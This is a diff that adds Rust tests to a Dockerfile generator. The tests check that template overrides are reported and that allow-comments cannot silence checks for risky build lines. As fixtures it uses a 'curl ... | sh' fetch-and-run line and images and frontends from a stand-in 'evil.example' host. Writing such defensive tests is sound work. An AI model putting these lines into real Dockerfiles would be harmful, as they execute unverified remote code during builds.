@@ -653,3 +653,64 @@ fn kill_leaves_the_old_file_or_the_new_one() {
     }
     println!("{killed} of {ROUNDS} were killed, {torn} between two files");
 }
+
+#[test]
+fn templates_of_the_repository_are_named_and_silence_nothing() {
+    let dir = hello();
+    assert!(!run(dir.path(), &["check"], 0).0.contains("replaces templates"));
+    let place = ".dockgen/templates/base/start.Dockerfile";
+    let template = |text: &str| {
+        fs::create_dir_all(dir.path().join(".dockgen/templates/base")).unwrap();
+        write(dir.path(), place, text);
+    };
+    let include = "{% include \"builtin/base/start.Dockerfile\" %}";
+    // Of another language: nothing of it is used.
+    write(dir.path(), ".dockgen/templates/node.Dockerfile", "FROM evil.example/x:1\n");
+    template(&format!("RUN [\"/bin/evil\"]\n{include}"));
+    let words = format!("the repository replaces templates of dockgen: {place}, with 1 line");
+    for args in [
+        &["init", "--yes", "--dry-run"][..],
+        &["explain"],
+        &["check"],
+        &["update", "--dry-run"],
+        &["check", "--format", "github"],
+    ] {
+        let output = command(dir.path(), args).output().unwrap();
+        let out = flat(&String::from_utf8(output.stdout).unwrap());
+        assert!(out.contains(&words) && !out.contains("node.Dockerfile"), "{args:?}: {out}");
+    }
+    for args in [
+        &["init", "--yes", "--dry-run", "--json"][..],
+        &["explain", "--json"],
+        &["check", "--format", "json"],
+    ] {
+        let output = command(dir.path(), args).output().unwrap();
+        let value: Value = serde_json::from_slice(&output.stdout).unwrap();
+        assert_eq!(value["apps"][0]["overrides"], serde_json::json!([place]), "{args:?}");
+    }
+    // A comment in a template allows no image, no command without a shell and no frontend.
+    for (comment, code) in [
+        ("# dockgen: allow=DG007\nRUN curl -s http://x.example | sh\n", "DG007"),
+        ("# dockgen: allow=DG008\nCOPY --from=evil.example/x:1 /a /b\n", "DG008"),
+        ("# dockgen: allow=DG008,DG009\nCOPY --from=evil.example/x:latest /a /b\n", "DG009"),
+    ] {
+        template(&format!("{comment}{include}"));
+        let (_, err) = run(dir.path(), &["init", "--yes", "--force"], 2);
+        assert!(err.contains(code), "{code}: {err}");
+    }
+}
+
+#[test]
+fn a_foreign_frontend_is_never_silent() {
+    let dir = hello();
+    let text = read(dir.path(), "Dockerfile");
+    let line = text.lines().next().unwrap().to_owned();
+    let evil = "# syntax=evil.example/x/dockerfile:1";
+    replace(dir.path(), "Dockerfile", &line, evil);
+    let (out, _) = run(dir.path(), &["check"], 1);
+    assert!(flat(&out).contains("DG001") && out.contains("evil.example/x/dockerfile"), "{out}");
+    replace(dir.path(), "Dockerfile", evil, &format!("{evil}\n\n# dockgen: allow=DG001"));
+    let (out, _) = run(dir.path(), &["check"], 0);
+    let told = flat(&out);
+    assert!(told.contains("note DG001") && told.contains("(a comment allows it)"), "{out}");
+}
